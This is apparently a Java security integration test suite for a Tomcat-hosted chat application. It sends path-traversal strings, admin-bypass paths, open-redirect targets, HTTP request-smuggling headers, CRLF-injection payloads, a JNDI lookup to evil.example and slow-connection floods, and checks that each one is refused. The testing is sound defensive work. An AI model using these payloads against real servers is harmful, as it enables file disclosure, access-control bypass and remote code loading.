package org.chatrooms.it.deploy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.chatrooms.it.harness.Answers;
import org.chatrooms.it.harness.DataFolder;
import org.chatrooms.it.harness.EventStream;
import org.chatrooms.it.harness.Person;
import org.chatrooms.it.harness.RawConnection;
import org.chatrooms.it.harness.StockTomcat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.AfterParameterizedClassInvocation;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What depends on the container, written byte by byte to each Tomcat that the WAR is made for, as it is
 * downloaded.
 */
@ParameterizedClass(name = "Tomcat {0}")
@ValueSource(strings = {"10", "11"})
class AttackedTomcatTest {
    /** Of the connector, with those who do not go on. */
    private static final Duration PATIENCE = Duration.ofSeconds(3);

    private static final String FORGED = "FORGED";
    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final Pattern STATUS = Pattern.compile("HTTP/1\\.1 (\\d{3})");

    /** What we answer ourselves, and not the container before it knows of us. */
    private static final String OURS = "Content-Security-Policy: default-src 'none'; ";

    @TempDir
    private static Path folders;

    private static StockTomcat tomcat;
    private static Person root;
    private static Person joanna;

    @Parameter
    private String version;

    @BeforeParameterizedClassInvocation
    static void start(String version) throws Exception {
        Path folder = Files.createDirectory(folders.resolve(version));
        DataFolder.makePeople(folder.resolve("chatrooms-data"), "root", "joanna");
        tomcat = StockTomcat.start(version, folder, PATIENCE);
        root = Person.signedIn(tomcat.base(), "root");
        joanna = Person.signedIn(tomcat.base(), "joanna");
    }

    @AfterParameterizedClassInvocation
    static void stop() {
        tomcat.close();
        for (String line : tomcat.log().lines().toList()) {
            assertFalse(line.startsWith(FORGED) || line.contains("\u001b"), line);
        }
    }

    /** One request as it stands, below the mount. */
    private static String answer(String method, String path, String... headers) throws Exception {
        List<String> all = new ArrayList<>(List.of(headers));
        all.add("Host: " + tomcat.base().getAuthority());
        all.add("Connection: close");
        try (RawConnection connection = new RawConnection(tomcat.base())) {
            connection.ask(method, path, "HTTP/1.1", all.toArray(String[]::new));
            return checked(connection.rest());
        }
    }

    private static String cookieOf(Person person) {
        return "Cookie: " + Person.TOKEN + "=" + person.cookie(Person.TOKEN);
    }

    /** One answer, nothing of what is inside in it where it is ours, and no header that the test made up. */
    private static String checked(String answer) {
        assertTrue(STATUS.matcher(answer).results().count() <= 1, answer);
        if (answer.contains(OURS)) {
            Answers.tellsNothing(answer);
        }
        assertFalse(
                Pattern.compile("^" + FORGED, Pattern.MULTILINE).matcher(answer).find(), answer);
        return answer;
    }

    private static int status(String answer) {
        var status = STATUS.matcher(answer);
        assertTrue(status.lookingAt(), answer);
        return Integer.parseInt(status.group(1));
    }

    private static void isRefused(String answer) {
        assertEquals(4, status(answer) / 100, answer);
    }

    @Test
    void it_is_the_one_that_is_meant() {
        assertTrue(tomcat.log().contains("Apache Tomcat/" + version + "."), tomcat::log);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WEB-INF/web.xml",
                "web-inf/web.xml",
                "WEB-INF/jsp/chatrooms/room.jsp",
                "META-INF/MANIFEST.MF",
                "/WEB-INF/web.xml",
                "./WEB-INF/web.xml",
                "%57EB-INF/web.xml",
                "WEB-INF%2fweb.xml",
                "WEB-INF%5cweb.xml",
                "WEB-INF\\web.xml",
                "WEB-INF;x=y/web.xml",
                "WEB-INF;/web.xml",
                ";/WEB-INF/web.xml",
                ";jsessionid=0/WEB-INF/web.xml",
                "static/../WEB-INF/web.xml",
                "static/..;/WEB-INF/web.xml",
                "static/..;x=y/WEB-INF/web.xml",
                "static/%2e%2e/WEB-INF/web.xml",
                "static/%2e%2e;/WEB-INF/web.xml",
                "static/%2e%2e%2fWEB-INF/web.xml",
                "static/..%5cWEB-INF/web.xml",
                "static/%252e%252e/WEB-INF/web.xml",
                "static/%252e%252e%252fWEB-INF/web.xml",
                "static/%c0%ae%c0%ae/WEB-INF/web.xml",
                "static/chatrooms/..;/..;/WEB-INF/web.xml",
                "static//..//WEB-INF//web.xml",
                "WEB-INF/web.xml%00",
                "WEB-INF/web.xml%00.css",
                "WEB-INF/web.xml%2500.css",
                "WEB-INF/./web.xml",
                "WEB-INF/web.xml/",
                "WEB-INF/web.xml%20",
                "WEB-INF/web.xml::$DATA",
                "org/chatrooms/launcher/Main.class",
                "org/chatrooms/launcher/..;/launcher/Main.class",
                "org;x/chatrooms/launcher/Main.class",
                "org/chatrooms//launcher/Main.class",
                "../chat.war",
                "..;/chat.war",
                "../../conf/tomcat-users.xml",
                "..;/..;/conf/tomcat-users.xml",
                "%2e%2e/%2e%2e/conf/tomcat-users.xml",
                "../../chatrooms-data/administrator.txt",
            })
    void no_way_to_write_a_path_leads_to_what_is_not_for_visitors(String path) throws Exception {
        for (String method : List.of("GET", "POST", "HEAD")) {
            String answer = answer(method, path, cookieOf(root));
            isRefused(answer);
            for (String secret :
                    List.of("<web-app", "<%@", "Manifest-Version", "\u00ca\u00fe", "tomcat-users>", "PK\u0003")) {
                assertFalse(answer.contains(secret), answer);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "admin/people/",
                "admin/people/;jsessionid=0",
                "admin;jsessionid=0/people/",
                "admin/people;x=y/",
                ";x/admin/people/",
                "/admin/people/",
                "admin//people/",
                "admin/./people/",
                "admin/people/.",
                "%61dmin/people/",
                "%2561dmin/people/",
                "%2e/admin/people/",
                "admin%2fpeople/",
                "admin%5cpeople/",
                "rooms/../admin/people/",
                "rooms/..;/admin/people/",
                "rooms/%2e%2e/admin/people/",
                "rooms/%2e%2e;x/admin/people/",
                "rooms/%2e%2e%2fadmin/people/",
                "rooms/%252e%252e/admin/people/",
                "static/chatrooms/..;/..;/admin/people/",
                "../chat/admin/people/",
                "..;/chat/admin/people/",
                "../chat;x/admin/people/",
                "ADMIN/people/",
                "admin/PEOPLE/",
                "admin/people/%00",
                "admin/people%00/",
                "admin/people/%20",
                "admin\\people/",
            })
    void nor_to_what_is_for_administrators(String path) throws Exception {
        for (String person : List.of("X-Nobody: here", cookieOf(joanna))) {
            String answer = answer("GET", path, person);
            assertTrue(status(answer) == 302 || status(answer) / 100 == 4, answer);
            assertFalse(answer.contains(">root<"), answer);
            if (status(answer) == 302) {
                assertTrue(
                        Pattern.compile("Location: /chat/[a-z/]*(\\?next=[A-Za-z0-9%._*-]*)?\r\n")
                                .matcher(answer)
                                .find(),
                        answer);
            }
        }
        assertTrue(answer("GET", "admin/people/", cookieOf(root)).contains(">joanna<"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "//evil.example/..;/chat/admin/",
                "//evil.example/%2e%2e/chat/account/",
                "//evil.example/../chat",
                "/chat//evil.example/..",
                "/chat//evil.example",
                "/chat/room//evil.example",
                "/chat/%2f%2fevil.example/",
                "/chat/.//evil.example/%2e%2e/rooms",
                "/chat/static//evil.example/..",
                "/chat/login//evil.example",
                "/chat;//evil.example",
                "http://evil.example/chat/account/",
                "http://evil.example/chat/rooms",
            })
    void no_path_leads_to_another_site(String target) throws Exception {
        try (RawConnection connection = new RawConnection(tomcat.base())) {
            connection.write("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            String answer = checked(connection.rest());

            assertTrue(status(answer) < 500, answer);
            assertFalse(
                    Pattern.compile("\r\nLocation: (?!/[A-Za-z]|http://localhost[:/]).*")
                            .matcher(answer)
                            .find(),
                    answer);
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "two lengths              | Content-Length: 5{nl}Content-Length: 6",
                "two lengths in one       | Content-Length: 5, 6",
                "a length with a sign     | Content-Length: +5",
                "a length below nothing   | Content-Length: -1",
                "a length in another form | Content-Length: 0x5",
                "a length beyond numbers  | Content-Length: 9223372036854775808",
                "a length of two words    | Content-Length: 5 5",
                "a folded length          | Content-Length: 5{nl} Transfer-Encoding: chunked",
                "an encoding there is not | Transfer-Encoding: xchunked",
                "another after chunked    | Transfer-Encoding: chunked, gzip",
                "two encodings            | Transfer-Encoding: chunked{nl}Transfer-Encoding: gzip",
                "chunked twice            | Transfer-Encoding: chunked{nl}Transfer-Encoding: chunked",
                "a space before the colon | Transfer-Encoding : chunked",
                "a name that is none      | Transfer(Encoding: chunked",
                "no name                  | : chunked",
                "two hosts                | Host: evil.example",
                "a null byte              | X-Null: a{null}b",
                "half an end of a line    | X-Half: a{cr}Transfer-Encoding: chunked",
            })
    void what_could_be_read_in_two_ways_is_refused_and_the_connection_closed(String what, String headers)
            throws Exception {
        String lines = headers.replace("{nl}", "\r\n").replace("{null}", "\0").replace("{cr}", "\r");
        // What is taken for the body by one is the next request for another.
        String smuggled = "0\r\n\r\nGET /chat/admin/ HTTP/1.1\r\nHost: localhost\r\n" + cookieOf(root) + "\r\n\r\n";
        try (RawConnection connection = new RawConnection(tomcat.base())) {
            connection.write("POST /chat/notify_users_list/ HTTP/1.1\r\nHost: localhost\r\n" + FORM + "\r\n" + lines
                    + "\r\n\r\n" + smuggled);
            String answer = checked(connection.rest()); // all until it is closed

            assertTrue(status(answer) == 400 || status(answer) == 501, what + ": " + answer);
        }
    }

    @Test
    void with_a_length_and_chunks_the_chunks_count_and_the_connection_is_closed_after_it() throws Exception {
        String smuggled = "0\r\n\r\nGET /chat/admin/ HTTP/1.1\r\nHost: localhost\r\n" + cookieOf(root) + "\r\n\r\n";
        try (RawConnection connection = new RawConnection(tomcat.base())) {
            connection.write("POST /chat/notify_users_list/ HTTP/1.1\r\nHost: localhost\r\n" + FORM
                    + "\r\nTransfer-Encoding: chunked\r\nContent-Length: " + smuggled.length() + "\r\n\r\n" + smuggled);
            isRefused(checked(connection.rest()));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\nroom_id=1\r\n0\r\n\r\n",
                "-9\r\nroom_id=1\r\n0\r\n\r\n",
                "0x9\r\nroom_id=1\r\n0\r\n\r\n",
                "FFFFFFFFFFFFFFFFF\r\nroom_id=1\r\n0\r\n\r\n",
                "9\r\nroom_id=1GET /chat/admin/ HTTP/1.1\r\n\r\n",
                "8\r\nroom_id=1\r\n0\r\n\r\n",
                "\r\n9\r\nroom_id=1\r\n0\r\n\r\n",
            })
    void broken_chunks_end_the_connection(String chunks) throws Exception {
        try (RawConnection connection = new RawConnection(tomcat.base())) {
            connection.write("POST /chat/notify_users_list/ HTTP/1.1\r\nHost: localhost\r\n" + FORM
                    + "\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks);
            String answer = checked(connection.rest());

            assertTrue(answer.isEmpty() || status(answer) / 100 == 4, answer);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "login/?next=/chat/rooms/%0d%0aFORGED:1",
        "login?next=%0d%0aFORGED:1",
        "register?next=%0d%0a%0d%0aFORGED",
        "setguestname?room_slug=lobby%0d%0aFORGED:1",
        "setguestname/?room_slug=lobby%0aFORGED:1",
        "new_password?link=%0dFORGED:1",
        "new_password/?link=%0d%0aFORGED:1",
        "subscribers/?room_slug=%0d%0aFORGED:1",
        "admin/people/?name=%0d%0aFORGED:1",
        "admin/%0d%0aFORGED:1",
        "%0d%0aFORGED:1",
        "room/%0d%0aFORGED:1",
        "login?next=%e5%98%8d%e5%98%8aFORGED:1",
        "rooms;%0d%0aFORGED:1?x",
    })
    void no_parameter_and_no_path_becomes_a_header_or_a_line_of_the_log(String path) throws Exception {
        for (String person : List.of("X-Nobody: here", cookieOf(root))) {
            String answer = answer(
                    "GET",
                    path,
                    person,
                    "User-Agent: \u001b[2J${jndi:ldap://evil.example/a}",
                    "Referer: \u009b31m%0d%0aFORGED");
            assertTrue(status(answer) < 500, answer);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"account/delete/", "new_password/", "subscribers/", "admin/people/", "admin/room/"})
    void a_parameter_that_comes_twice_or_in_a_broken_encoding_is_refused(String path) throws Exception {
        String[] forms = {
            "id=1&id=2&act=disable&act=disable&room_slug=lobby&room_slug=x&link=x&link=y&current_password=x&current_password=y",
            "id=%zz",
            "link=%",
            "room_slug=%ff",
            "username=%c0%80",
            "act=%ed%a0%80"
        };
        for (String form : forms) {
            HttpResponse<String> answer = root.send(root.request(path)
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(BodyPublishers.ofString(form)));
            Answers.page(400, answer);
        }
    }

    @Test
    void ten_megabytes_are_413_before_any_of_them_is_read_or_as_soon_as_64_kilobytes_were() throws Exception {
        for (String path :
                List.of("send_message/", "account/delete/", "new_password/", "subscribers/", "admin/people/")) {
            try (RawConnection declared = begin(path, "Content-Length: 10485760");
                    RawConnection chunked = begin(path, "Transfer-Encoding: chunked")) {
                assertEquals(413, status(declared.readUntil("\r\n\r\n")));
                chunked.write("10000\r\n" + "x".repeat(0x10000) + "\r\n10\r\n" + "x".repeat(0x10) + "\r\n");
                assertEquals(413, status(chunked.readUntil("\r\n\r\n")));
            }
        }
    }

    private static RawConnection begin(String path, String length) throws Exception {
        RawConnection connection = new RawConnection(tomcat.base());
        connection.ask("POST", path, "HTTP/1.1", "Host: localhost", FORM, length);
        return connection;
    }

    /** Tomcat would take a thousand of them, and drop the others or refuse them all. */
    @Test
    void as_many_parameters_as_there_is_room_for_are_read_and_cost_little() {
        assertTimeout(Duration.ofSeconds(10), () -> {
            HttpResponse<String> answer = joanna.send(joanna.request("notify_users_list/")
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(BodyPublishers.ofString("a&".repeat(32_000) + "room_id=1")));
            assertEquals("Connected", answer.body());
        });
    }

    @Test
    void what_is_too_long_for_a_header_is_refused() throws Exception {
        isRefused(answer("GET", "rooms/?" + "a".repeat(20_000)));
        isRefused(answer("GET", "rooms/", "X-Long: " + "a".repeat(20_000)));
        isRefused(answer("GET", "rooms/", "Cookie: " + "a=b; ".repeat(5_000)));
        isRefused(answer("GET", "rooms/", "X-Many: a\r\n".repeat(200) + "X-Last: a"));
    }

    @Test
    void who_begins_and_does_not_go_on_is_cut_off_and_meanwhile_the_others_chat() throws Exception {
        long latest = joanna.say("here they come");
        EventStream stream = root.stream(Person.LOBBY, latest);
        List<RawConnection> slow = new ArrayList<>();
        long begin = System.nanoTime();
        for (int i = 0; i < 40; i++) {
            RawConnection connection = new RawConnection(tomcat.base());
            connection.write(i % 2 == 0 ? "G" : "GET /chat/rooms/ HTTP/1.1\r\nHost: localhost\r\nX-");
            slow.add(connection);
        }
        for (int i = 0; i < 10; i++) {
            slow.add(begin("send_message/", "Content-Length: 100"));
            slow.get(slow.size() - 1).write("r");
        }

        joanna.say("hello");
        assertEquals(List.of("hello"), stream.awaitMessage("hello"));
        Duration chatted = Duration.ofNanos(System.nanoTime() - begin);
        assertTrue(chatted.compareTo(PATIENCE) < 0, chatted.toString());

        for (RawConnection connection : slow) {
            String answer = checked(connection.rest());
            assertTrue(answer.isEmpty() || status(answer) / 100 == 4, answer);
            connection.close();
        }
        Duration held = Duration.ofNanos(System.nanoTime() - begin);
        assertTrue(held.compareTo(PATIENCE.multipliedBy(5)) < 0, held.toString());
        assertFalse(stream.isOver());
        stream.close();
    }
}
